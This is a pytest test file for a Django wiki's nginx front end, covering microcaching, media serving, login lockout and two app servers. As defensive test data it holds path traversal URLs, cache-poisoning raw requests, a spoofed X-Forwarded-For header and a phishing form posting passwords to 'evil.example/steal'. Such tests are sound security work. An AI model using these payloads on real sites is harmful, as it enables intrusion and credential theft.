"""deploy/nginx/vdwiki.conf in front of gunicorn, as production runs it (deploy/local.py): the
microcache for readers, what nginx serves itself, and two app servers behind its upstream sharing
the database and the page cache."""

import http.client
import re
import socket
import time
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack
from datetime import UTC, datetime, timedelta
from http.cookies import SimpleCookie
from urllib.parse import urlencode

import pytest
from bs4 import BeautifulSoup
from django.core.files.base import ContentFile

from posts import previews, workflow
from posts.legacy.importer import import_dump
from posts.models import Attachment, Post
from posts.workflow import Content

from .factories import PASSWORD, make_role_groups, make_user, png
from .server import SECRET_KEY, SHARED_REDIS_URL, Answer, Server, running_front, running_server

# vdwiki.conf keeps a page 1 s, on nginx's clock, which counts whole seconds: 1 to 2 s.
MICROCACHE_SECONDS = 2.0
RENDER_MARGIN = 0.5  # for one page to render


@pytest.fixture(autouse=True)
def cache_shared_with_the_servers(settings):
    """This process and the servers share one page cache, as app servers do in production: a
    change made here makes their cached pages stale."""
    redis_cache = {"BACKEND": "django_redis.cache.RedisCache", "LOCATION": SHARED_REDIS_URL}  # as settings.py has it
    settings.CACHES = {"default": redis_cache}


@pytest.fixture
def app(transactional_db, tmp_path, server_static) -> Server:
    with running_server(tmp_path, server_static, shared_cache=True) as server:
        yield server


@pytest.fixture
def people(transactional_db):
    make_role_groups()
    return {"ed": make_user("Editor", "ed"), "eve": make_user("Editor", "eve"), "mo": make_user("Moderator", "mo")}


@pytest.fixture
def draft(people):
    content = Content("Vitamin D in winter", "vitamin-d-in-winter", "Take **more** in winter.", tags=("Winter",))
    post = workflow.create(by=people["ed"], content=content)
    Post.objects.filter(pk=post.pk).update(date=datetime(2024, 1, 5, tzinfo=UTC))
    return post


@pytest.fixture
def post(draft, people):
    return workflow.publish(draft, by=people["mo"])


@pytest.fixture
def front(app, tmp_path, server_static) -> Server:
    with running_front(tmp_path / "nginx", [app], server_static, tmp_path / "media") as front:
        yield front


def test_an_anonymous_page_is_rendered_once_and_served_from_the_microcache(front, draft, people):
    workflow.publish(draft, by=people["mo"])
    first, second = front.get("/posts/vitamin-d-in-winter/"), front.get("/posts/vitamin-d-in-winter/")
    assert (first.status, first.headers["X-Cache"]) == (200, "MISS")
    assert (second.status, second.headers["X-Cache"]) == (200, "HIT")
    assert second.body == first.body and "Take <strong>more</strong> in winter." in second.text


def test_readers_asking_at_once_for_a_page_not_cached_cost_one_rendering(front, draft, people):
    workflow.publish(draft, by=people["mo"])
    with ThreadPoolExecutor(24) as pool:
        answers = list(pool.map(lambda _: front.get("/posts/vitamin-d-in-winter/"), range(24)))
    assert {answer.status for answer in answers} == {200}
    assert [answer.headers["X-Cache"] for answer in answers].count("MISS") == 1


def test_a_page_published_in_the_cms_reaches_readers_within_the_microcache_time(front, draft, people):
    assert front.get("/posts/vitamin-d-in-winter/").status == 404  # a draft, cached as missing
    workflow.publish(draft, by=people["mo"])
    published = time.monotonic()
    while (answer := front.get("/posts/vitamin-d-in-winter/")).status != 200:
        assert answer.status == 404 and time.monotonic() - published < MICROCACHE_SECONDS + RENDER_MARGIN
    assert time.monotonic() - published < MICROCACHE_SECONDS + RENDER_MARGIN
    assert "Take <strong>more</strong> in winter." in answer.text


def test_a_reader_after_a_quiet_spell_gets_the_page_as_it_is_not_an_old_copy(front, draft, people):
    """Stale copies are served only to readers who come while another request renders the page."""
    workflow.publish(draft, by=people["mo"])
    assert "Take <strong>more</strong>" in front.get("/posts/vitamin-d-in-winter/").text
    edited = Content("Vitamin D in winter", "vitamin-d-in-winter", "Take **twice as much** in winter.")
    workflow.edit(draft, by=people["mo"], content=edited, based_on=draft.latest_revision)
    workflow.publish(Post.objects.get(pk=draft.pk), by=people["mo"])
    time.sleep(MICROCACHE_SECONDS + 0.2)
    answer = front.get("/posts/vitamin-d-in-winter/")
    assert answer.headers["X-Cache"] == "EXPIRED"
    assert "Take <strong>twice as much</strong> in winter." in answer.text


def test_a_logged_in_editor_never_gets_nor_leaves_a_cached_page(front, app, draft, people):
    workflow.publish(draft, by=people["mo"])
    anonymous = front.get("/posts/vitamin-d-in-winter/")
    editor = Visitor(front).log_in("ed")
    mine = editor.get("/posts/vitamin-d-in-winter/")
    assert mine.headers["X-Cache"] == "BYPASS"
    assert front.get("/posts/vitamin-d-in-winter/").headers["X-Cache"] == "HIT"
    assert anonymous.status == mine.status == 200
    assert editor.get("/admin/posts/post/").headers["X-Cache"] == "BYPASS"


def test_a_draft_its_editor_looks_at_is_never_served_to_readers(front, app, draft, people):
    editor = Visitor(front).log_in("ed")
    for _ in range(2):
        assert editor.get("/posts/vitamin-d-in-winter/").status == 200
        assert front.get("/posts/vitamin-d-in-winter/").status == 404


def test_a_response_that_sets_a_cookie_or_is_private_is_never_cached(front, app, draft, settings):
    settings.SECRET_KEY = SECRET_KEY  # the server's, which signs and checks preview links
    preview = previews.preview_url(draft.latest_revision)  # answered "private, no-store"
    for _ in range(2):
        login = front.get("/admin/login/")
        assert "csrftoken=" in login.headers["Set-Cookie"]
        assert login.headers["X-Cache"] == "MISS"
        answer = front.get(preview)
        assert (answer.status, answer.headers["X-Cache"]) == (200, "MISS")


def test_static_files_are_served_by_nginx_compressed_and_kept_by_browsers_when_hashed(front, app, server_static):
    hashed = next(server_static.glob("admin/css/base.*.css")).relative_to(server_static)
    answer = front.get(f"/static/{hashed}", headers={"Accept-Encoding": "gzip"})
    assert answer.status == 200 and answer.headers["Content-Encoding"] == "gzip"
    compressed = server_static / f"{hashed}.gz"  # by collectstatic, once, not for every request
    assert int(answer.headers["Content-Length"]) == compressed.stat().st_size == len(answer.body)
    assert "immutable" in answer.headers.get_all("Cache-Control")
    assert "X-Cache" not in answer.headers  # never reached the app
    assert front.get("/static/admin/css/missing.css").status == 404


def test_attachments_are_served_by_nginx_as_documents_that_run_no_script(front, app, media_root):
    attachment = Attachment(kind=Attachment.Kind.IMAGE, content_type="image/png")
    attachment.file.save("chart.png", ContentFile(png()))
    answer = front.get(attachment.file.url)
    assert (answer.status, answer.headers["Content-Type"], answer.body) == (200, "image/png", png())
    assert "default-src 'none'" in answer.headers["Content-Security-Policy"]
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


def test_uploaded_dumps_and_other_media_are_never_served(front, app, tmp_path):
    private = tmp_path / "media" / "private" / "imports"
    private.mkdir(parents=True)
    (private / "dump.zip").write_bytes(b"PK\x03\x04 someone's dump")
    for target in ["/media/private/imports/dump.zip", "/media/attachments/../private/imports/dump.zip",
                   "/media/attachments/..%2fprivate/imports/dump.zip", "/media/"]:  # fmt: skip
        assert front.get(target).status == 404, target


def test_a_login_locked_from_one_address_behind_nginx_stays_open_from_another(front, app, people, settings):
    attacker, ed = Visitor(front, source="127.0.0.2"), Visitor(front, source="127.0.0.3")
    attacker.get("/admin/login/")
    for _ in range(settings.AXES_FAILURE_LIMIT + 1):
        refused = attacker.post("/admin/login/", [("username", "ed"), ("password", "wrong")])
    assert refused.status == 429
    # Saying it comes from elsewhere does not help: nginx adds the address it saw after the claim.
    claim = attacker.post("/admin/login/", [("username", "ed"), ("password", PASSWORD)], forwarded_for="127.0.0.3")
    assert claim.status == 429
    ed.log_in("ed")


def raw_get(front: Server, request: bytes) -> Answer:
    """`request` sent as it is: the request line and headers an attacker writes."""
    with socket.create_connection((front.host, front.port), timeout=10) as sock:
        sock.sendall(request)
        response = http.client.HTTPResponse(sock, method="GET")
        response.begin()
        return Answer(response.status, response.headers, response.read())


def canonical(answer: Answer) -> str:
    return re.search(r'rel="canonical" href="([^"]*)"', answer.text).group(1)


@pytest.mark.parametrize(
    "poison",
    [
        b"GET /posts/vitamin-d-in-winter/ HTTP/1.1\r\nHost: 127.0.0.1:6666\r\nConnection: close\r\n\r\n",
        # absolute form and no Host header: Django builds its links from gunicorn's own address
        b"GET http://127.0.0.1/posts/vitamin-d-in-winter/ HTTP/1.0\r\n\r\n",
    ],
    ids=["another-port", "absolute-form-without-host"],
)
def test_a_page_rendered_for_another_host_is_never_served_to_readers(front, post, poison):
    assert raw_get(front, poison).status == 200  # rendered, and kept a second
    reader = front.get("/posts/vitamin-d-in-winter/")
    assert reader.status == 200
    assert canonical(reader) == f"http://127.0.0.1:{front.port}/posts/vitamin-d-in-winter/"


def test_readers_still_share_the_microcache(front, post):
    assert front.get("/posts/vitamin-d-in-winter/").headers["X-Cache"] == "MISS"
    assert front.get("/posts/vitamin-d-in-winter/").headers["X-Cache"] == "HIT"


def test_an_imported_attachment_named_html_is_not_served_as_a_page_of_the_site(front, tmp_path, people):
    """The importer takes a file by its first bytes (a PDF here) and keeps its name: from disk,
    nginx must not serve it as what its name says (text/html: a form of the site's own origin)."""
    dump, files = tmp_path / "dump", tmp_path / "files"
    (files / "html").mkdir(parents=True)
    dump.mkdir()
    page = b'%PDF-1.4\n<html><form action="https://evil.example/steal"><input name=password></form>'
    (files / "html" / "login.html").write_bytes(page)
    (files / "svg").mkdir()
    (files / "svg" / "chart.svg").write_bytes(b"%PDF-1.4\n<svg xmlns='http://www.w3.org/2000/svg'></svg>")
    link = "https://d1bk1kqxc0sym.cloudfront.net/attachments"
    (dump / "p.md").write_text(
        f'{{"title": "P", "date": "2024-01-05"}}\n\n[a]({link}/html/login.html) [b]({link}/svg/chart.svg)\n'
    )
    assert import_dump(dump, attachments_dir=files, workers=1).attachments_stored == 2
    for name in ("html/login.html", "svg/chart.svg"):
        served = front.get(f"/media/attachments/{name}")
        assert served.status == 200 and served.body.startswith(b"%PDF-")
        assert served.headers["Content-Type"] not in ("text/html", "image/svg+xml"), name


def test_a_session_cookie_nginx_does_not_see_still_leaves_no_page_for_readers(front, post, people):
    """nginx looks for `sessionid` after "; " only; Django also finds it after a tab. The editor's
    draft page then passes nginx's bypass, but its `Vary: Cookie` keeps it from readers."""
    workflow.create(by=people["ed"], content=Content("Secret draft", "secret-draft", "Hidden **text**."))
    session = Visitor(front).log_in("ed").cookies["sessionid"].value
    for cookie in [f"x=1;\tsessionid={session}", f"\tsessionid={session}"]:
        mine = front.get("/posts/secret-draft/", headers={"Cookie": cookie})
        assert mine.status == 200 and "Hidden" in mine.text
        assert front.get("/posts/secret-draft/").status == 404
        assert front.get("/posts/secret-draft/", headers={"Cookie": "x=1"}).status == 404


@pytest.mark.parametrize("move", ["unpublish", "delete"])
def test_a_post_taken_off_the_site_leaves_the_front_within_the_microcache_time(front, post, people, move):
    for _ in range(2):  # cached by nginx and Django
        assert front.get("/posts/vitamin-d-in-winter/").status == 200
        assert "Vitamin D in winter" in front.get("/").text
    getattr(workflow, move)(Post.objects.get(pk=post.pk), by=people["mo"])
    gone = time.monotonic()
    while (answer := front.get("/posts/vitamin-d-in-winter/")).status == 200:
        assert time.monotonic() - gone < 2.5
        time.sleep(0.05)
    assert answer.status == (404 if move == "unpublish" else 410)
    while "Vitamin D in winter" in front.get("/").text:
        assert time.monotonic() - gone < 2.5
        time.sleep(0.05)


def test_only_the_dump_upload_takes_a_body_of_hundreds_of_megabytes(front, app):
    body = b"x" * (20 * 1024 * 1024)
    headers = {"Content-Type": "application/octet-stream"}
    assert front.get("/search/", method="POST", headers=headers, body=body).status == 413
    assert front.get("/markdownx/upload/", method="POST", headers=headers, body=body).status == 413
    upload = front.get("/admin/posts/importrun/upload/", method="POST", headers=headers, body=body)
    assert upload.status == 403 and "CSRF" in upload.text  # Django refuses it, not nginx
    small = front.get("/search/", method="POST", headers=headers, body=b"x" * (9 * 1024 * 1024))
    assert small.status != 413


def test_a_post_taken_off_the_site_is_not_served_while_the_app_server_is_down(
    transactional_db, tmp_path, server_static, post, people
):
    """The microcache keeps a page one second; a post unpublished since must not come back from it
    because gunicorn is restarting or failing: readers get the error, not the withdrawn page."""
    with ExitStack() as app_stack:
        app = app_stack.enter_context(running_server(tmp_path, server_static, shared_cache=True))
        with running_front(tmp_path / "nginx", [app], server_static, tmp_path / "media") as front:
            assert front.get("/posts/vitamin-d-in-winter/").status == 200
            workflow.unpublish(Post.objects.get(pk=post.pk), by=people["mo"])
            app_stack.close()  # gunicorn stops (a restart, a crash)
            time.sleep(2.2)
            answer = front.get("/posts/vitamin-d-in-winter/")
            assert "Take <strong>more</strong>" not in answer.text, answer.headers["X-Cache"]


def test_a_scheduled_change_of_a_live_post_published_by_the_worker_shows_on_its_page(app, people):
    """The task worker, another process, publishes it: the app server's cached page goes stale."""
    ed, mo = people["ed"], people["mo"]
    post = workflow.create(by=ed, content=Content("Winter", "winter", "Take **more**."))
    workflow.publish(post, by=mo)
    assert "Take <strong>more</strong>" in app.get("/posts/winter/").text  # cached there
    post = Post.objects.get(pk=post.pk)
    workflow.edit(post, by=ed, content=Content("Winter", "winter", "Take **less**."), based_on=post.latest_revision)
    workflow.submit(Post.objects.get(pk=post.pk), by=ed)
    at = datetime.now(UTC) + timedelta(hours=1)
    workflow.schedule(Post.objects.get(pk=post.pk), by=mo, at=at)
    assert [p.slug for p in workflow.publish_due(now=at + timedelta(seconds=1))] == ["winter"]  # as the worker
    assert "Take <strong>less</strong>" in app.get("/posts/winter/").text


class Visitor:
    """A person with a browser's cookies, talking HTTP to one server from `source` (a loopback
    address; 127.0.0.1 unless given)."""

    def __init__(self, server: Server, *, source: str | None = None):
        self.server, self.source, self.cookies = server, source, SimpleCookie()

    def get(self, target: str) -> Answer:
        return self._remember(self.server.get(target, headers=self._cookie_header(), source=self.source))

    def post(self, target: str, fields: list[tuple[str, str]], *, forwarded_for: str | None = None) -> Answer:
        fields = [*fields, ("csrfmiddlewaretoken", self.cookies["csrftoken"].value)]
        headers = {
            **self._cookie_header(),
            "Content-Type": "application/x-www-form-urlencoded",
            "Origin": f"http://{self.server.host}:{self.server.port}",  # as browsers send with a form
            **({"X-Forwarded-For": forwarded_for} if forwarded_for else {}),
        }
        body = urlencode(fields).encode()
        return self._remember(self.server.get(target, method="POST", headers=headers, body=body, source=self.source))

    def log_in(self, name: str) -> "Visitor":
        self.get("/admin/login/")
        answer = self.post("/admin/login/?next=/admin/", [("username", name), ("password", PASSWORD)])
        assert (answer.status, answer.headers["Location"]) == (302, "/admin/"), answer.text
        return self

    def on(self, server: Server) -> "Visitor":
        """The same person, their cookies and all, talking to another server."""
        other = Visitor(server, source=self.source)
        other.cookies = self.cookies
        return other

    def _cookie_header(self) -> dict[str, str]:
        return {"Cookie": "; ".join(f"{name}={morsel.value}" for name, morsel in self.cookies.items())}

    def _remember(self, answer: Answer) -> Answer:
        for header in answer.headers.get_all("Set-Cookie") or []:
            self.cookies.load(header)
        return answer


def form_fields(html: str, form_id: str, **changes: str) -> list[tuple[str, str]]:
    """What a browser would send for the form, as the page left it but for `changes`."""
    form = BeautifulSoup(html, "html.parser").find("form", id=form_id)
    fields = []
    for element in form.find_all(["input", "textarea", "select"]):
        name = element.get("name")
        if not name or element.get("type") in {"submit", "button", "file"} or element.has_attr("disabled"):
            continue
        if element.get("type") in {"checkbox", "radio"} and not element.has_attr("checked"):
            continue
        if element.name == "select":
            fields += [(name, option["value"]) for option in element.find_all("option", selected=True)]
        elif element.name == "textarea":
            fields.append((name, element.text.removeprefix("\n")))
        else:
            fields.append((name, element.get("value", "on" if element.get("type") == "checkbox" else "")))
    fields = [(name, changes.pop(name) if name in changes else value) for name, value in fields]
    return fields + list(changes.items())


class TestTwoAppServers:
    """Two gunicorns on their own ports, one database and one Redis, behind one nginx upstream."""

    @pytest.fixture
    def servers(self, transactional_db, tmp_path, server_static):
        media = tmp_path / "media"
        with (
            running_server(tmp_path / "a", server_static, media_root=media, shared_cache=True) as one,
            running_server(tmp_path / "b", server_static, media_root=media, shared_cache=True) as two,
        ):
            yield one, two

    @pytest.fixture
    def both_behind_nginx(self, servers, tmp_path, server_static):
        with running_front(tmp_path / "nginx", list(servers), server_static, tmp_path / "media") as front:
            yield front

    def test_a_post_published_through_one_is_served_by_the_other_within_a_second(self, servers, draft, people):
        one, two = servers
        assert two.get("/posts/vitamin-d-in-winter/").status == 404  # and cached there as missing
        moderator = Visitor(one).log_in("mo")
        moved = moderator.post(f"/admin/posts/post/{draft.pk}/move/", [("action", "publish"), ("comment", "")])
        assert moved.status == 302
        published = time.monotonic()
        while (answer := two.get("/posts/vitamin-d-in-winter/")).status != 200:
            assert time.monotonic() - published < 1.0, answer.status
        assert "Take <strong>more</strong> in winter." in answer.text
        assert "Vitamin D in winter" in two.get("/").text

    def test_sessions_made_on_one_work_on_the_other_and_through_nginx(self, servers, both_behind_nginx, people):
        one, two = servers
        editor = Visitor(one).log_in("ed")
        for server in (two, both_behind_nginx):
            answer = editor.on(server).get("/admin/posts/post/")
            assert answer.status == 200 and "Select post to change" in answer.text
        assert Visitor(two).get("/admin/posts/post/").status == 302  # a stranger is sent to log in

    def test_an_edit_conflict_between_editors_on_the_two_servers_is_caught(self, servers, draft, people):
        one, two = servers
        ed, eve = Visitor(one).log_in("ed"), Visitor(two).log_in("eve")
        change = f"/admin/posts/post/{draft.pk}/change/"
        ed_form, eve_form = ed.get(change).text, eve.get(change).text
        saved = eve.post(change, form_fields(eve_form, "post_form", body="Eve's text.", _save=""))
        assert saved.status == 302, saved.text
        refused = ed.post(change, form_fields(ed_form, "post_form", body="Ed's text.", _save=""))
        assert refused.status == 200 and "Your text is kept in the form" in refused.text
        assert "Ed&#x27;s text." in refused.text or "Ed's text." in refused.text
        assert Post.objects.get(pk=draft.pk).latest_revision.body == "Eve's text."
